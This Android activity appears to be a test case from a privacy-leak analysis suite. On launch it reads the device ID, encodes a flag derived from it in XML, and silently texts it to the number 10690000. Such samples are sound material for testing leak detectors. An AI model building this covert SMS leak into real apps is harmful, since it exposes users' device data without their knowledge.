package cn.privlens.suite.xml_serializer_tags;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Xml;
import java.io.IOException;
import java.io.StringWriter;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        StringWriter text = new StringWriter();
        try {
            org.xmlpull.v1.XmlSerializer xml = Xml.newSerializer();
            xml.setOutput(text);
            xml.startDocument("UTF-8", true);
            xml.startTag(null, "device");
            xml.text(id.isEmpty() ? "no" : "yes");
            xml.endTag(null, "device");
            xml.endDocument();
        } catch (IOException e) {
            setTitle("e");
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, text.toString(), null, null);
    }
}
